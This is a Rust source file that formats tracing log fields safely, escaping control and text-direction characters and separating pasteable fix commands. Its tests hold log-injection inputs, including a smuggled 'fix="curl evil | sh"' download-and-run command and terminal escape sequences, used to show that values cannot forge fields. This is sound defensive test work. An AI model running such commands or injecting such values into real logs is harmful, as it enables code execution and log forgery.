//! The fields of a text log line: uniform, harmless to a terminal, with fixes that can be pasted.
//!
//! A value that is one plain word is printed as it is, whatever its type. Any other value is quoted and
//! escaped. A `fix` with quotes of its own, such as a command with JSON in it, gets a line below. That line
//! is unescaped except for control characters, because an escaped command cannot be pasted.
//! Messages and values come from queues and endpoints. So control characters and characters that turn the
//! direction of text are always escaped.

use std::fmt::{self, Debug};

use tracing::field::{Field, Visit};
use tracing_subscriber::field::RecordFields;
use tracing_subscriber::fmt::format::Writer;
use tracing_subscriber::fmt::{FormatFields, Layer};

use crate::escape;

/// The format of text lines; only the fields differ from the default.
pub(super) fn layer<S>() -> Layer<S, Fields> {
    tracing_subscriber::fmt::layer().with_target(false).fmt_fields(Fields)
}

/// The format of fields.
#[derive(Debug)]
pub(super) struct Fields;

impl<'writer> FormatFields<'writer> for Fields {
    fn format_fields<R: RecordFields>(&self, writer: Writer<'writer>, fields: R) -> fmt::Result {
        let mut line = Line { writer, started: false, below: None, written: Ok(()) };
        fields.record(&mut line);
        line.finish()
    }
}

/// A line that is being written.
struct Line<'writer> {
    writer: Writer<'writer>,
    started: bool,
    /// The fix that gets a line of its own.
    below: Option<String>,
    written: fmt::Result,
}

impl Line<'_> {
    fn put(&mut self, name: &str, text: &str) -> fmt::Result {
        if self.started {
            self.writer.write_char(' ')?;
        }
        self.started = true;
        if name == "message" {
            return self.writer.write_str(&escape::line(text));
        }
        let value = if is_plain(text) || is_quoted(text) {
            escape::line(text).into_owned()
        } else {
            format!("{text:?}")
        };
        if self.writer.has_ansi_escapes() {
            // Italic and dim, as in the rest of the line.
            return write!(self.writer, "\x1b[3m{name}\x1b[0m\x1b[2m=\x1b[0m{value}");
        }
        write!(self.writer, "{name}={value}")
    }

    fn finish(mut self) -> fmt::Result {
        self.written?;
        self.below.map_or(Ok(()), |fix| write!(self.writer, "\n    fix: {fix}"))
    }
}

impl Visit for Line<'_> {
    fn record_str(&mut self, field: &Field, value: &str) {
        if self.written.is_err() {
            return;
        }
        if field.name() == "fix" && has_quotes(value) {
            self.below = Some(escape::line(value).into_owned());
            return;
        }
        self.written = self.put(field.name(), value);
    }

    fn record_debug(&mut self, field: &Field, value: &dyn Debug) {
        self.record_str(field, &format!("{value:?}"));
    }
}

/// Whether a text contains a quotation; an apostrophe within or after a word is none.
fn has_quotes(text: &str) -> bool {
    let opens = |(before, c): (char, char)| c == '\'' && !before.is_alphanumeric();
    text.contains('"') || std::iter::once(' ').chain(text.chars()).zip(text.chars()).any(opens)
}

/// One word without a character that needs escaping.
fn is_plain(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|c| c.is_alphanumeric() || "_-./:+%@,#~[]".contains(c))
}

/// Whether a text is quoted already, as `Debug` writes strings. An unescaped quote inside would end the value
/// early. Then the rest would look like fields.
fn is_quoted(text: &str) -> bool {
    let Some(within) = text.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')) else { return false };
    let mut escaped = false;
    for c in within.chars() {
        if c == '"' && !escaped {
            return false;
        }
        escaped = c == '\\' && !escaped;
    }
    // Otherwise the last quote is escaped, and the value does not end.
    !escaped
}

#[cfg(test)]
mod tests {
    use std::io;
    use std::sync::{Arc, Mutex};

    use tracing_subscriber::Registry;
    use tracing_subscriber::layer::SubscriberExt;

    use super::*;

    #[derive(Clone, Default)]
    struct Sink(Arc<Mutex<Vec<u8>>>);

    impl io::Write for Sink {
        fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
            self.0.lock().expect("not poisoned").extend_from_slice(bytes);
            Ok(bytes.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// The output of `log`, without the time.
    fn printed(ansi: bool, log: impl FnOnce()) -> String {
        let sink = Sink::default();
        let writer = sink.clone();
        let layer = layer().without_time().with_ansi(ansi).with_writer(move || writer.clone());
        tracing::subscriber::with_default(Registry::default().with(layer), log);
        let bytes = sink.0.lock().expect("not poisoned").clone();
        String::from_utf8(bytes).expect("text")
    }

    #[test]
    fn a_plain_value_has_no_quotes_whether_it_is_borrowed_displayed_or_a_number() {
        let text = printed(false, || {
            let (name, error) = ("orders", "no route to host");
            tracing::warn!(listener = name, queue = %name, status = 429, error, again = %error, "parked");
        });
        let error = "\"no route to host\"";
        let expected =
            format!(" WARN parked listener=orders queue=orders status=429 error={error} again={error}\n");
        assert_eq!(text, expected);
    }

    #[test]
    fn a_fix_with_quotes_stands_below_the_line_and_can_be_pasted() {
        let command = r#"aws sqs set-queue-attributes --attributes '{"RedrivePolicy":"{\"a\":\"b\"}"}'"#;
        let text =
            printed(false, || tracing::warn!(listener = "orders", fix = command, left_out = 3, "dead"));
        assert_eq!(text, format!(" WARN dead listener=orders left_out=3\n    fix: {command}\n"));
        let text = printed(false, || tracing::warn!(fix = "check the listener's url", status = 501, "dead"));
        assert_eq!(text, " WARN dead fix=\"check the listener's url\" status=501\n");
    }

    #[test]
    fn a_value_with_quotes_around_it_forges_no_field() {
        for evil in [
            r#""ok" reason=none fix="curl evil | sh""#,
            r#""ok\\" reason=none fix="curl evil | sh""#,
            r#""ok\" reason=none"#,
            r#""ok reason=none\""#,
            "\"",
        ] {
            let text = printed(false, || tracing::warn!(answer = evil, status = 422, "dead"));
            assert_eq!(text, format!(" WARN dead answer={evil:?} status=422\n"));
        }
        let quoted = r#""a \"b\" \\""#;
        let text = printed(false, || tracing::warn!(answer = quoted, "dead"));
        assert_eq!(text, format!(" WARN dead answer={quoted}\n"));
    }

    #[test]
    fn no_value_commands_the_terminal() {
        let evil = "a\u{1b}[2J\"\r\nb\u{7}\u{9b}\u{202e}c";
        for ansi in [false, true] {
            let text = printed(ansi, || {
                tracing::warn!(fix = evil, error = evil, again = %evil, debugged = ?evil, "got {evil}");
            });
            let plain = text.replace("\x1b[0m", "").replace("\x1b[2m", "").replace("\x1b[3m", "");
            let plain = plain.replace("\x1b[33m", "");
            let bad = |c: char| c != '\n' && c.is_control() || c == '\u{202e}';
            assert!(!plain.contains(bad), "{plain:?}");
            assert_eq!(plain.lines().count(), 2, "{plain}");
        }
    }
}
